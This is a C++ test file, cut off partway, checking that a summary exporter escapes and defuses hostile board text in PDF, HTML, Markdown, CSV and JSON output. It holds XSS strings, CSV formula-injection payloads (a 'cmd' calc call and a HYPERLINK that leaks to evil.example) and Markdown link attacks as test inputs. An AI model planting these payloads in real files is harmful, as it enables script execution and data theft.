// The monthly summary's writers: every format written from a board whose months are known, and
// the content asserted (pdftotext for the PDF, small parsers for HTML, CSV and JSON).
#include <gtest/gtest.h>

#include <cereal/archives/json.hpp>

#include <chrono>
#include <functional>
#include <set>

#include "canvas/board_factory.h"
#include "canvas/geometry.h"
#include "canvas/record_guard.h"
#include "canvas/replay.h"
#include "canvas/summary.h"
#include "storage/summary/summary_export.h"
#include "storage/summary/summary_text.h"  // the strength reasons in each language
#include "month_log.h"
#include "test_util.h"

#include <cmark.h>

using namespace cc;
using namespace cc::summary;
using cc::test::readFile;
using cc::test::TempDir;

namespace {

using cc::test::at;
using cc::test::Log;

const std::string kHostile = "<script>alert(1)</script>";
const std::string kQuotes = "\"quotes\" & ampersands 'single'";
const std::string kCsvNasty = "Pipes | commas, \"quoted\"\nsecond line";

/// The test board: September and October 2026, with hostile, Chinese and awkward text.
MonthlySummary octoberSummary() {
    Log log(at(2026, 8, 1));
    const std::string s1 = log.add("App 满意度 81%", "survey", 3, at(2026, 9, 2), "2026-09-01", 2,
                                   {"survey-2026.xlsx", "Sheet1!B4", "满意度 81%"});
    const std::string m1 = log.add("Transfers fail 4 of 10", "mystery_shopping", 2, at(2026, 9, 3), "2026-09-02");
    log.link(s1, m1, LinkKind::Conflicts, at(2026, 9, 4), "survey vs observation");
    const std::string c1 = log.add("转账投诉上升 48%", "complaint", 2, at(2026, 10, 5), "2026-10-04", 5,
                                   {"complaints.csv", "row 17", "客户投诉：转账失败"});
    const std::string f1 = log.add("Focus group: transfers feel unsafe", "focus_group", 3, at(2026, 10, 6), "2026-10-05");
    log.link(c1, m1, LinkKind::Supports, at(2026, 10, 7));
    log.link(f1, m1, LinkKind::Supports, at(2026, 10, 7));
    log.update(s1, at(2026, 10, 8), [](Note& n) { n.votes = 4; });
    log.add(kHostile, "feedback", 1, at(2026, 10, 9), "2026-10-09", 0, {"<evil>.html", "\"loc\"", kHostile});
    log.add(kQuotes, "staff_anecdote", 4, at(2026, 10, 10), "2026-10-10");
    log.add(kCsvNasty, "survey", 4, at(2026, 10, 11), "2026-10-11", 1, {"a,b.csv", "row \"3\"", "x"});
    // Enough new notes for the appendix and the strongest insights to fill pages.
    for (int i = 0; i < 40; ++i)
        log.add("Observation " + std::to_string(i) + " 观察笔记 about branch queues and mobile transfers", i % 2 ? "survey" : "complaint",
                1 + i % 4, at(2026, 10, 12 + i % 10), "2026-10-12");
    return log.summary(Month{2026, 10});
}

MonthlySummary emptySummary() {
    Log log(at(2026, 8, 1));
    return log.summary(Month{2026, 9});
}

const MonthlySummary& october() {
    static const MonthlySummary s = octoberSummary();
    return s;
}

// ---- boards that attack the reader of the summary ----------------------------------------------

/// Texts a spreadsheet would run as formulas (OWASP's list: = + - @, tab, CR).
const std::vector<std::string> kFormulas{"=HYPERLINK(\"http://evil.example/?leak\",\"Click\")", "=cmd|' /C calc'!A0",
                                         "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1"};

/// Markdown that would become a link, an image, HTML, a heading, a list, a quote or code.
const std::vector<std::string> kMarkdownAttacks{
    "[click me](javascript:alert(1))", "![pixel](http://evil.example/p.png)", "<http://evil.example/auto>",
    "<img src=x onerror=alert(1)>", "see www.evil.example and https://evil.example/x", "mail me@evil.example",
    "# not a heading", "- not a list", "1. not a list", "> not a quote", "**not bold** _not em_ `not code`",
    "[ref]: http://evil.example/ref"};

/// Text no document can carry: noncharacters, bytes that are not UTF-8, controls.
const std::vector<std::string> kUnrenderable{
    "Before \xEF\xB7\x90 after (U+FDD0)", "Before \xEF\xBF\xBF after (U+FFFF)", "Before \xF4\x8F\xBF\xBF after (U+10FFFF)",
    "Before \xFF\xFE after (not UTF-8)", "Before \x1B[2J after (ESC)", std::string("Before ") + '\0' + " after (NUL)",
    "Before \xC2\x9B after (C1)", "Before \xED\xA0\x80 after (surrogate)"};

/// Byte sequences of kUnrenderable that must not reach a document.
const std::vector<std::string> kUnrenderableBytes{"\xEF\xB7\x90", "\xEF\xBF\xBF", "\xF4\x8F\xBF\xBF", "\xFF",
                                                  "\x1B",         std::string(1, '\0'), "\xC2\x9B", "\xED\xA0\x80"};

/// Replaces `from` with `to` in every piece of note text the summary carries.
void replaceInSummary(MonthlySummary& s, const std::string& from, const std::string& to) {
    auto fix = [&](std::string& str) {
        for (std::size_t at = str.find(from); at != std::string::npos; at = str.find(from, at + to.size())) str.replace(at, from.size(), to);
    };
    auto note = [&](CitedNote& n) {
        for (std::string* f : {&n.title, &n.text, &n.author, &n.segment, &n.provenanceFile, &n.provenanceLocation, &n.provenanceExcerpt})
            fix(*f);
    };
    fix(s.boardTitle);
    for (auto& v : s.strongest)
        for (auto& n : v) note(n);
    for (auto& q : s.questions) note(q.a), note(q.b), fix(q.label);
    for (auto* v : {&s.changes.added, &s.changes.archived, &s.changes.deleted, &s.appendix})
        for (auto& n : *v) note(n);
    for (auto& m : s.changes.moved) note(m.note);
    for (auto* v : {&s.changes.linksAdded, &s.changes.linksRemoved})
        for (auto& l : *v) fix(l.fromTitle), fix(l.toTitle), fix(l.label);
    for (auto& p : s.picture) fix(p.title);
}

/// October 2026 with one wall note per text, the same text also as author, segment and provenance.
/// The model refuses text its record guard calls unsafe (not UTF-8, controls, noncharacters), so
/// such text goes into the finished summary instead, as a writer could still be handed it.
MonthlySummary summaryOf(const std::vector<std::string>& texts, const std::string& boardTitle = "Retail 零售") {
    const bool titleSafe = unsafeTextReason(boardTitle).empty();
    Log log(at(2026, 8, 1), titleSafe ? boardTitle : "BoardTitleStandIn");
    std::vector<std::pair<std::string, std::string>> later;
    if (!titleSafe) later.emplace_back("BoardTitleStandIn", boardTitle);
    for (std::size_t i = 0; i < texts.size(); ++i) {
        std::string t = texts[i];
        if (!unsafeTextReason(t).empty()) {
            later.emplace_back("StandIn" + std::to_string(i) + "X", t);
            t = later.back().first;
        }
        const std::string id = log.add(t, "survey", 1 + static_cast<int>(i % 4), at(2026, 10, 2), "2026-10-01", 1, {t, t, t});
        log.update(id, at(2026, 10, 3), [&](Note& n) {
            n.author = t;
            n.segment = t;
        });
    }
    log.add("Ordinary note alpha", "complaint", 1, at(2026, 10, 4), "2026-10-04", 2);
    log.add("Ordinary note omega", "focus_group", 4, at(2026, 10, 4), "2026-10-04", 3);
    MonthlySummary s = log.summary(Month{2026, 10});
    for (const auto& [standIn, text] : later) replaceInSummary(s, standIn, text);
    return s;
}

std::string write(const MonthlySummary& s, const TempDir& dir, const std::string& name, Lang lang = Lang::En) {
    const std::string path = dir.file(name);
    exportSummary(s, path, *formatFromPath(path), lang);
    return path;
}

std::string pdfText(const std::string& path) {
    const auto r = cc::test::run({"/usr/bin/pdftotext", "-layout", path, "-"});
    EXPECT_EQ(r.status, 0) << r.err;
    return r.out;
}

int pdfPages(const std::string& path) {
    const auto r = cc::test::run({"/usr/bin/pdfinfo", path});
    const auto p = r.out.find("Pages:");
    if (p == std::string::npos) return -1;
    return std::stoi(r.out.substr(p + 6));
}

bool contains(const std::string& hay, const std::string& needle) { return hay.find(needle) != std::string::npos; }

// ---- a small RFC 4180 parser -----------------------------------------------------------------
std::vector<std::vector<std::string>> parseCsv(const std::string& in, bool& crlfOnly) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string f;
    bool quoted = false, fieldStarted = false;
    crlfOnly = true;
    for (std::size_t i = 0; i < in.size(); ++i) {
        const char c = in[i];
        if (quoted) {
            if (c == '"') {
                if (i + 1 < in.size() && in[i + 1] == '"') {
                    f += '"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                f += c;
            }
        } else if (c == '"' && !fieldStarted) {
            quoted = fieldStarted = true;
        } else if (c == ',') {
            row.push_back(f);
            f.clear();
            fieldStarted = false;
        } else if (c == '\r' || c == '\n') {
            if (c == '\n' || i + 1 >= in.size() || in[i + 1] != '\n') crlfOnly = false;
            if (c == '\r') ++i;
            row.push_back(f);
            rows.push_back(row);
            row.clear();
            f.clear();
            fieldStarted = false;
        } else {
            f += c;
            fieldStarted = true;
        }
    }
    if (!row.empty() || !f.empty()) {
        row.push_back(f);
        rows.push_back(row);
    }
    return rows;
}

// ---- a minimal well-formedness check of the HTML (XHTML-clean output) ------------------------
/// Every element opened is closed in order (void elements self-closed), attributes quoted,
/// no raw '<' or '&' outside tags and entities. Returns an empty string when well formed.
std::string checkWellFormed(const std::string& h) {
    std::vector<std::string> stack;
    std::size_t i = 0;
    if (h.rfind("<!DOCTYPE html>", 0) == 0) i = std::string("<!DOCTYPE html>").size();
    bool inStyle = false;
    while (i < h.size()) {
        const char c = h[i];
        if (inStyle) {
            const auto e = h.find("</style>", i);
            if (e == std::string::npos) return "unclosed style";
            i = e;
            inStyle = false;
            continue;
        }
        if (c == '&') {
            const auto semi = h.find(';', i);
            if (semi == std::string::npos || semi - i > 8) return "bare & at " + std::to_string(i);
            const std::string ent = h.substr(i, semi - i + 1);
            static const std::set<std::string> ok{"&amp;", "&lt;", "&gt;", "&quot;", "&#39;"};
            if (!ok.count(ent)) return "unknown entity " + ent;
            i = semi + 1;
            continue;
        }
        if (c == '>') return "bare > at " + std::to_string(i) + ": " + h.substr(i > 40 ? i - 40 : 0, 80);
        if (c != '<') {
            ++i;
            continue;
        }
        const auto end = h.find('>', i);
        if (end == std::string::npos) return "unterminated tag";
        std::string tag = h.substr(i + 1, end - i - 1);
        // Attributes: a '<' inside a tag is never allowed; quotes must balance.
        if (tag.find('<') != std::string::npos) return "< inside tag: " + tag;
        if (std::count(tag.begin(), tag.end(), '"') % 2) return "unbalanced quotes: " + tag;
        i = end + 1;
        if (tag[0] == '/') {
            const std::string name = tag.substr(1);
            if (stack.empty() || stack.back() != name) return "closing " + name + " but open is " + (stack.empty() ? "" : stack.back());
            stack.pop_back();
            continue;
        }
        if (tag.back() == '/') continue;  // self-closed
        std::string name = tag.substr(0, tag.find_first_of(" \t\n"));
        stack.push_back(name);
        if (name == "style") inStyle = true;
    }
    if (!stack.empty()) return "unclosed " + stack.back();
    return {};
}

}  // namespace

// ---- PDF ---------------------------------------------------------------------------------------

TEST(SummaryPdf, ShowsTheSectionsFiguresAndChineseText) {
    TempDir dir;
    const auto& s = october();
    const std::string path = write(s, dir, "oct.pdf");
    if (const char* keep = std::getenv("CC_KEEP_PDF")) std::filesystem::copy_file(path, keep, std::filesystem::copy_options::overwrite_existing);
    const std::string bytes = readFile(path);
    ASSERT_EQ(bytes.rfind("%PDF-", 0), 0u);
    const std::string t = pdfText(path);
    for (const auto& h : {"1. Headline figures", "2. The canvas", "3. Insights by evidence strength", "4. Open questions", "5. Source coverage",
                          "6. What changed", "7. Appendix", "8. Appendix: notes not in any insight"})
        EXPECT_TRUE(contains(t, h)) << h;
    EXPECT_TRUE(contains(t, "Retail 零售"));
    EXPECT_TRUE(contains(t, "2026-10"));
    EXPECT_TRUE(contains(t, "转账投诉上升 48%"));
    EXPECT_TRUE(contains(t, "Notes on the wall"));
    EXPECT_TRUE(contains(t, std::to_string(s.notesOnWall.value)));
    EXPECT_TRUE(contains(t, "+" + std::to_string(s.notesOnWall.change()) + " vs. last month"));
    EXPECT_TRUE(contains(t, "survey vs observation"));
    EXPECT_TRUE(contains(t, "complaints.csv"));  // provenance cited
    EXPECT_TRUE(contains(t, kHostile));          // shown as text
    const int pages = pdfPages(path);
    EXPECT_GT(pages, 1);
    EXPECT_TRUE(contains(t, "Page 1 of " + std::to_string(pages)));
    EXPECT_TRUE(contains(t, "Page " + std::to_string(pages) + " of " + std::to_string(pages)));
    // Fonts embedded.
    const auto fonts = cc::test::run({"/usr/bin/pdffonts", path});
    EXPECT_TRUE(contains(fonts.out, "NotoSansCJK")) << fonts.out;
    EXPECT_FALSE(contains(fonts.out, " no ")) << fonts.out;
}

TEST(SummaryPdf, ChineseHeadingsWithLangZh) {
    TempDir dir;
    const std::string path = write(october(), dir, "oct-zh.pdf", Lang::Zh);
    const std::string t = pdfText(path);
    for (const auto& h : {"一、关键数据", "二、画布全貌", "三、洞察（按证据强度排列）", "四、待解决的问题", "五、来源覆盖", "六、本月变化", "七、附录", "八、附录"})
        EXPECT_TRUE(contains(t, h)) << h;
    EXPECT_TRUE(contains(t, "墙上便签"));
    EXPECT_TRUE(contains(t, "共 "));
    EXPECT_FALSE(contains(t, "Headline figures"));
    EXPECT_FALSE(contains(t, "Page 1 of"));
}

TEST(SummaryPdf, EmptyMonthSaysSo) {
    TempDir dir;
    const auto s = emptySummary();
    ASSERT_TRUE(s.empty);
    const std::string path = write(s, dir, "empty.pdf");
    const std::string t = pdfText(path);
    EXPECT_TRUE(contains(t, "No data for this month"));
    EXPECT_TRUE(contains(t, "2026-09"));
    EXPECT_FALSE(contains(t, "Headline figures"));
    EXPECT_LE(pdfPages(path), 2);
}

TEST(SummaryPdf, UnwritablePathThrowsAndLeavesNoFile) {
    TempDir dir;
    const std::string path = dir.file("missing/oct.pdf");
    EXPECT_THROW(exportSummary(october(), path, Format::Pdf, Lang::En), SummaryError);
    EXPECT_THROW(writePdf(october(), path, Lang::En), SummaryError);
    EXPECT_FALSE(std::filesystem::exists(path));
}

// ---- HTML --------------------------------------------------------------------------------------

TEST(SummaryHtml, SelfContainedWellFormedAndEscaped) {
    TempDir dir;
    const std::string h = readFile(write(october(), dir, "oct.html"));
    EXPECT_EQ(checkWellFormed(h), "");
    EXPECT_TRUE(contains(h, "<meta charset=\"utf-8\"/>"));
    EXPECT_TRUE(contains(h, "<html lang=\"en\">"));
    EXPECT_TRUE(contains(h, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    EXPECT_TRUE(contains(h, "&quot;quotes&quot; &amp; ampersands &#39;single&#39;"));
    EXPECT_TRUE(contains(h, "&lt;evil&gt;.html"));
    EXPECT_FALSE(contains(h, "<script"));
    EXPECT_FALSE(contains(h, "http://"));
    EXPECT_FALSE(contains(h, "https://"));
    EXPECT_FALSE(contains(h, "src="));
    EXPECT_FALSE(contains(h, "url("));
    EXPECT_FALSE(contains(h, "@import"));
    EXPECT_FALSE(contains(h, "<link"));
    EXPECT_TRUE(contains(h, "@media print"));
    EXPECT_TRUE(contains(h, "<svg"));
    EXPECT_TRUE(contains(h, "转账投诉上升 48%"));
    for (const auto& sec : {"1. Headline figures", "2. The canvas", "3. Insights by evidence strength", "4. Open questions", "5. Source coverage",
                            "6. What changed", "7. Appendix", "8. Appendix: notes not in any insight"})
        EXPECT_TRUE(contains(h, sec)) << sec;
}

TEST(SummaryHtml, ChineseAndEmpty) {
    TempDir dir;
    const std::string zh = readFile(write(october(), dir, "oct.html", Lang::Zh));
    EXPECT_EQ(checkWellFormed(zh), "");
    EXPECT_TRUE(contains(zh, "<html lang=\"zh\">"));
    EXPECT_TRUE(contains(zh, "一、关键数据"));
    EXPECT_FALSE(contains(zh, "Headline figures"));
    const std::string e = readFile(write(emptySummary(), dir, "empty.html"));
    EXPECT_EQ(checkWellFormed(e), "");
    EXPECT_TRUE(contains(e, "No data for this month"));
    EXPECT_FALSE(contains(e, "Headline figures"));
}

// ---- Markdown ----------------------------------------------------------------------------------

TEST(SummaryMarkdown, SevenSectionsAndEscapedCells) {
    TempDir dir;
    const std::string m = readFile(write(october(), dir, "oct.md"));
    for (const auto& sec : {"## 1. Headline figures", "## 2. The canvas", "## 3. Insights by evidence strength", "## 4. Open questions",
                            "## 5. Source coverage", "## 6. What changed", "## 7. Appendix", "## 8. Appendix"})
        EXPECT_TRUE(contains(m, sec)) << sec;
    EXPECT_TRUE(contains(m, "Pipes \\| commas"));
    EXPECT_TRUE(contains(m, "<br>second line"));
    EXPECT_FALSE(contains(m, "<script>"));
    EXPECT_TRUE(contains(m, "转账投诉上升 48%"));
    // Every table row has the same number of unescaped pipes as its header.
    std::istringstream in(m);
    std::string line;
    std::size_t expected = 0;
    auto pipes = [](const std::string& l) {
        std::size_t n = 0;
        for (std::size_t i = 0; i < l.size(); ++i)
            if (l[i] == '|' && (i == 0 || l[i - 1] != '\\')) ++n;
        return n;
    };
    while (std::getline(in, line)) {
        if (line.empty() || line[0] != '|') {
            expected = 0;
            continue;
        }
        if (expected == 0) expected = pipes(line);
        EXPECT_EQ(pipes(line), expected) << line;
    }
    const std::string zh = readFile(write(october(), dir, "zh.md", Lang::Zh));
    EXPECT_TRUE(contains(zh, "## 七、附录"));
    const std::string e = readFile(write(emptySummary(), dir, "empty.md"));
    EXPECT_TRUE(contains(e, "No data for this month"));
    EXPECT_FALSE(contains(e, "## 1."));
}

// ---- CSV ---------------------------------------------------------------------------------------

TEST(SummaryCsv, BomRfc4180AndTheAppendixRows) {
    TempDir dir;
    const auto& s = october();
    const std::string c = readFile(write(s, dir, "oct.csv"));
    ASSERT_EQ(c.rfind("\xEF\xBB\xBF", 0), 0u);
    bool crlf = false;
    const auto rows = parseCsv(c.substr(3), crlf);
    EXPECT_TRUE(crlf);
    ASSERT_EQ(rows.size(), s.appendix.size() + 1);
    // The appendix's 16 columns, then what the row is and an insight's fields (no insights here).
    EXPECT_EQ(rows[0].size(), 23u);
    EXPECT_EQ(rows[0][0], "id");
    EXPECT_EQ(rows[0][15], "provenance excerpt");
    EXPECT_EQ(rows[0][16], "record");
    EXPECT_EQ(rows[0][22], "insight ids");
    bool nasty = false, chinese = false;
    for (std::size_t i = 1; i < rows.size(); ++i) {
        ASSERT_EQ(rows[i].size(), 23u) << i;
        EXPECT_EQ(rows[i][0], s.appendix[i - 1].id);
        EXPECT_EQ(rows[i][16], "note");
        if (rows[i][3] == kCsvNasty) {
            nasty = true;
            EXPECT_EQ(rows[i][13], "a,b.csv");
            EXPECT_EQ(rows[i][14], "row \"3\"");
        }
        if (rows[i][3] == "转账投诉上升 48%") {
            chinese = true;
            EXPECT_EQ(rows[i][15], "客户投诉：转账失败");
            EXPECT_EQ(rows[i][4], "complaint");
            EXPECT_EQ(rows[i][6], "2026-10-04");
            EXPECT_EQ(rows[i][9], "5");
        }
    }
    EXPECT_TRUE(nasty);
    EXPECT_TRUE(chinese);
    const std::string zh = readFile(write(s, dir, "zh.csv", Lang::Zh));
    const auto zrows = parseCsv(zh.substr(3), crlf);
    EXPECT_EQ(zrows[0][0], "编号");
    const std::string e = readFile(write(emptySummary(), dir, "empty.csv"));
    EXPECT_EQ(parseCsv(e.substr(3), crlf).size(), 1u);  // the header only
}

// ---- JSON --------------------------------------------------------------------------------------

TEST(SummaryJson, ParsesBackWithTheModelsFigures) {
    TempDir dir;
    const auto& s = october();
    const std::string j = readFile(write(s, dir, "oct.json"));
    RAPIDJSON_NAMESPACE::Document d;
    d.Parse(j.c_str());
    ASSERT_FALSE(d.HasParseError());
    EXPECT_EQ(std::string(d["board"].GetString()), s.boardTitle);
    EXPECT_EQ(std::string(d["month"].GetString()), "2026-10");
    EXPECT_FALSE(d["empty"].GetBool());
    const auto& h = d["headline"];
    auto check = [&](const char* key, const Figure& f) {
        EXPECT_EQ(h[key]["value"].GetInt(), f.value) << key;
        EXPECT_EQ(h[key]["previous"].GetInt(), f.previous) << key;
        EXPECT_EQ(h[key]["change"].GetInt(), f.change()) << key;
    };
    check("notesOnWall", s.notesOnWall);
    check("newNotes", s.newNotes);
    check("changedNotes", s.changedNotes);
    check("sourceKindsUsed", s.sourceKindsUsed);
    check("corroborated", s.corroborated);
    check("openContradictions", s.openContradictions);
    EXPECT_EQ(d["appendix"].Size(), s.appendix.size());
    EXPECT_EQ(d["questions"].Size(), s.questions.size());
    EXPECT_EQ(d["picture"]["notes"].Size(), s.picture.size());
    EXPECT_EQ(d["changes"]["added"].Size(), s.changes.added.size());
    EXPECT_EQ(d["changes"]["linksAdded"].Size(), s.changes.linksAdded.size());
    EXPECT_EQ(d["coverage"]["bySource"].Size(), s.bySource.size());
    EXPECT_EQ(d["coverage"]["quantitative"].GetInt(), s.quantitative);
    for (int q = 0; q < 4; ++q) EXPECT_EQ(d["notesByQuadrant"][q].GetInt(), s.notesByQuadrant[static_cast<std::size_t>(q)]);
    bool hostile = false;
    for (const auto& n : d["appendix"].GetArray())
        if (std::string(n["text"].GetString()) == kHostile) hostile = true;
    EXPECT_TRUE(hostile);

    const std::string e = readFile(write(emptySummary(), dir, "empty.json"));
    RAPIDJSON_NAMESPACE::Document ed;
    ed.Parse(e.c_str());
    ASSERT_FALSE(ed.HasParseError());
    EXPECT_TRUE(ed["empty"].GetBool());
}

// ---- Text that attacks the reader -----------------------------------------------------------------

TEST(SummaryCsv, FormulasFromBoardTextAreDefusedEverywhere) {
    TempDir dir;
    auto s = summaryOf(kFormulas);
    // Votes are never negative on a board; a negative number the program writes is still a number.
    for (auto& n : s.appendix)
        if (n.text == "Ordinary note omega") n.votes = -3;
    const std::string c = readFile(write(s, dir, "formulas.csv"));
    bool crlf = false;
    const auto rows = parseCsv(c.substr(3), crlf);
    ASSERT_EQ(rows.size(), s.appendix.size() + 1);
    std::set<std::string> defused;
    for (std::size_t i = 1; i < rows.size(); ++i) {
        ASSERT_EQ(rows[i].size(), 23u);
        for (std::size_t col = 0; col < rows[i].size(); ++col) {
            const std::string& cell = rows[i][col];
            if (col == 9) continue;  // the votes: a number
            // No cell a spreadsheet would run: every formula text comes back behind a '.
            ASSERT_FALSE(!cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos) << col << ": " << cell;
            if (!cell.empty() && cell[0] == '\'') defused.insert(cell.substr(1));
        }
        const std::string& text = rows[i][3];
        if (text.size() > 1 && text[0] == '\'') {
            // Title, text, author, segment and the three provenance columns alike.
            for (std::size_t col : {7u, 8u, 13u, 14u, 15u}) EXPECT_EQ(rows[i][col], text) << col;
        }
    }
    for (const auto& f : kFormulas) EXPECT_TRUE(defused.count(f)) << f;
    // In the bytes: defused cells are quoted; the votes, even negative ones, stay bare numbers.
    EXPECT_TRUE(contains(c, ",\"'+1+1\","));
    EXPECT_TRUE(contains(c, ",\"'-2+3\","));
    EXPECT_TRUE(contains(c, ",-3,"));
    EXPECT_TRUE(contains(c, ",2,"));
    EXPECT_TRUE(contains(c, "Ordinary note alpha"));
}

namespace {

/// The Markdown rendered as a CommonMark renderer does, raw HTML let through (as many wikis do).
std::string renderMarkdown(const std::string& md) {
    char* html = cmark_markdown_to_html(md.data(), md.size(), CMARK_OPT_UNSAFE);
    std::string out = html;
    std::free(html);
    return out;
}

std::size_t count(const std::string& hay, const std::string& needle) {
    std::size_t n = 0;
    for (auto at = hay.find(needle); at != std::string::npos; at = hay.find(needle, at + 1)) ++n;
    return n;
}

}  // namespace

TEST(SummaryMarkdown, BoardTextNeverBecomesALinkImageOrHtml) {
    TempDir dir;
    const auto s = summaryOf(kMarkdownAttacks, "Board [x](javascript:alert(1)) <b>bold</b>");
    const std::string m = readFile(write(s, dir, "attacks.md"));
    const std::string h = renderMarkdown(m);
    EXPECT_FALSE(contains(h, "<a ")) << h;
    EXPECT_FALSE(contains(h, "<img")) << h;
    EXPECT_FALSE(contains(h, "<b>"));
    EXPECT_FALSE(contains(h, "<blockquote"));
    EXPECT_FALSE(contains(h, "<code"));
    EXPECT_EQ(count(h, "<h1"), 1u) << "only the summary's own title";
    // Each attack reads as the text that was typed.
    for (const char* shown : {"[click me](javascript:alert(1))", "![pixel](http://evil.example/p.png)", "&lt;http://evil.example/auto&gt;",
                              "&lt;img src=x onerror=alert(1)&gt;", "# not a heading", "**not bold** _not em_ `not code`",
                              "[ref]: http://evil.example/ref", "mail me@evil.example", "1. not a list", "- not a list"})
        EXPECT_TRUE(contains(h, shown)) << shown;
    // What GitHub links without any brackets is broken up in the Markdown itself.
    EXPECT_FALSE(contains(m, "http://"));
    EXPECT_FALSE(contains(m, "https://"));
    EXPECT_FALSE(contains(m, "www."));
    for (std::size_t at = m.find('@'); at != std::string::npos; at = m.find('@', at + 1)) EXPECT_EQ(m[at - 1], '\\');
}

TEST(SummaryHtml, BoardTextMakesNoLinkAndNoMarkup) {
    TempDir dir;
    std::vector<std::string> texts = kMarkdownAttacks;
    texts.push_back("<a href=\"javascript:alert(1)\">x</a>");
    texts.push_back("\"><svg onload=alert(1)>");
    texts.push_back("javascript:alert(document.cookie)");
    const std::string h = readFile(write(summaryOf(texts), dir, "attacks.html"));
    EXPECT_EQ(checkWellFormed(h), "");
    EXPECT_FALSE(contains(h, "<a "));
    EXPECT_FALSE(contains(h, "<img"));
    // javascript:, links and event handlers are only ever text, never inside a tag.
    EXPECT_TRUE(contains(h, "javascript:alert(document.cookie)"));
    for (std::size_t lt = h.find('<'); lt != std::string::npos; lt = h.find('<', lt + 1)) {
        const std::string tag = h.substr(lt, h.find('>', lt) - lt);
        EXPECT_FALSE(contains(tag, "javascript")) << tag;
        EXPECT_FALSE(contains(tag, "href")) << tag;
        EXPECT_FALSE(contains(tag, "onerror")) << tag;
        EXPECT_FALSE(contains(tag, "onload")) << tag;
    }
}

TEST(SummaryPdf, OneNoteWithANoncharacterOrBadBytesDoesNotStopTheReport) {
    TempDir dir;
    const auto s = summaryOf(kUnrenderable, "Retail \xEF\xB7\x90 board");
    std::string path;
    ASSERT_NO_THROW(path = write(s, dir, "odd.pdf"));
    const std::string t = pdfText(path);
    for (const char* shown : {"Ordinary note alpha", "Ordinary note omega", "after (U+FDD0)", "after (not UTF-8)", "Retail"})
        EXPECT_TRUE(contains(t, shown)) << shown;
}

TEST(SummaryText, EveryWriterReplacesWhatNoDocumentCanCarry) {
    TempDir dir;
    const auto s = summaryOf(kUnrenderable, "Retail \xEF\xB7\x90 board");
    for (const char* name : {"odd.html", "odd.md", "odd.csv", "odd.json"}) {
        const std::string out = readFile(write(s, dir, name));
        EXPECT_TRUE(isValidUtf8(out)) << name;
        for (const auto& bad : kUnrenderableBytes) EXPECT_FALSE(contains(out, bad)) << name << ": " << testing::PrintToString(bad);
        EXPECT_TRUE(contains(out, "Before \uFFFD after")) << name;
        EXPECT_TRUE(contains(out, "Ordinary note alpha")) << name;
    }
}

// ---- Speed ---------------------------------------------------------------------------------------

TEST(SummaryBig, ATenThousandNoteBoardComesOutWhole) {
    // A 10,000-note board with 10,000 links, built straight into the summary model: 2,000 of the
    // notes new in the month, so the appendix is long.
    Log log(at(2026, 8, 1), "Big board 大看板");
    ChangeSet cs;
    std::vector<std::string> ids;
    const char* sources[] = {"survey", "complaint", "focus_group", "mystery_shopping", "feedback", "transaction_db"};
    for (int i = 0; i < 10000; ++i) {
        Note n = log.make("Note " + std::to_string(i) + " 便签 about customers", sources[i % 6], 1 + i % 4, at(2026, 9, 2),
                          "2026-09-01");
        const Rect r = quadrantRect(log.doc->board(), n.quadrant);
        const int cols = static_cast<int>((r.w - 80) / 60), rows = static_cast<int>((r.h - kQuadrantHeader - 80) / 40);
        n.x = r.x + 20 + 60.0 * ((i / 4) % cols);
        n.y = r.y + kQuadrantHeader + 20 + 40.0 * ((i / 4 / cols) % rows);
        n.w = 50;
        n.h = 30;
        if (i % 5 == 0) n.created = n.updated = at(2026, 10, 3);
        ids.push_back(n.id);
        cs.notes.added.push_back(n);
    }
    log.commit(cs, at(2026, 9, 2));
    ChangeSet links;
    for (int i = 0; i < 10000; ++i) {
        Link l;
        l.id = newId("l");
        l.from = ids[static_cast<std::size_t>(i)];
        l.to = ids[static_cast<std::size_t>((i * 7 + 1) % 10000)];
        l.kind = i % 50 == 0 ? LinkKind::Conflicts : LinkKind::Supports;
        l.created = at(2026, 10, 4);
        links.links.added.push_back(l);
    }
    log.commit(links, at(2026, 10, 4));
    ChangeSet edits;
    for (int i = 0; i < 10000; i += 5) {
        Note before = *log.doc->note(ids[static_cast<std::size_t>(i)]);
        Note after = before;
        after.votes = 3;
        after.updated = at(2026, 10, 5);
        edits.notes.updated.emplace_back(before, after);
    }
    log.commit(edits, at(2026, 10, 5));
    const MonthlySummary s = log.summary(Month{2026, 10});
    ASSERT_EQ(s.picture.size(), 10000u);
    std::cout << "appendix rows: " << s.appendix.size() << ", questions: " << s.questions.size() << "\n";
    TempDir dir;
    // How fast is a benchmark's question (tests/bench/bench_summary.cpp), not a test's: here the
    // big board must simply come out whole.
    for (const char* name : {"big.pdf", "big.html"}) {
        write(s, dir, name);
        EXPECT_GT(std::filesystem::file_size(dir.file(name)), 100u * 1024) << name;
    }
    EXPECT_GT(pdfPages(dir.file("big.pdf")), 3);
}

// ---- insights ----------------------------------------------------------------------------------
// The summary presents the board's insights per quadrant, strongest first, each with its
// strength in words and its evidence; single notes that no insight holds go to the appendix.

namespace {

const std::string kStrong = "Transfers feel unsafe to young families";
const std::string kModerate = "Staff think branches are slow";
const std::string kWeakVoted = "Fee worries with votes";
const std::string kWeak = "Fees drive people away, a hunch";
const std::string kRetired = "Retired theory about parking";
const std::string kUnplaced = "Numbers nobody has placed yet";
const std::string kSingle = "One undated observation";
const std::string kNovember = "Made in November";
const std::string kLonely = "Lonely note about opening hours";
const std::string kRetiredNote = "Parking is hard near branches";

struct InsightBoard {
    MonthlySummary october;
    std::string strongNote, moderateNote, lonely, retiredNote;
};

/// October 2026: insights of every strength (their rule is in evidence_strength.h), one retired,
/// one in no quadrant, one made in November; and notes that no insight cites.
InsightBoard insightBoard() {
    Log log(at(2026, 8, 1));
    InsightBoard b;
    const Millis t = at(2026, 10, 6);
    // Strong: 4 kinds, all direct, 2 started by the customer, quantitative and qualitative, recent.
    b.strongNote = log.add("Complaint: the transfer screen looks like phishing", "complaint", 2, t, "2026-10-04");
    const std::string s2 = log.add("Survey: 38% of parents fear transfers", "survey", 2, t, "2026-10-01");
    const std::string s3 = log.add("Focus group: young parents avoid the app", "focus_group", 2, t, "2026-10-05");
    const std::string s4 = log.add("VoC: 'I call my bank instead'", "voice_of_customer", 2, t, "2026-09-20");
    // Moderate: 2 kinds, one internal, one started by the customer, qualitative only, one conflicting note.
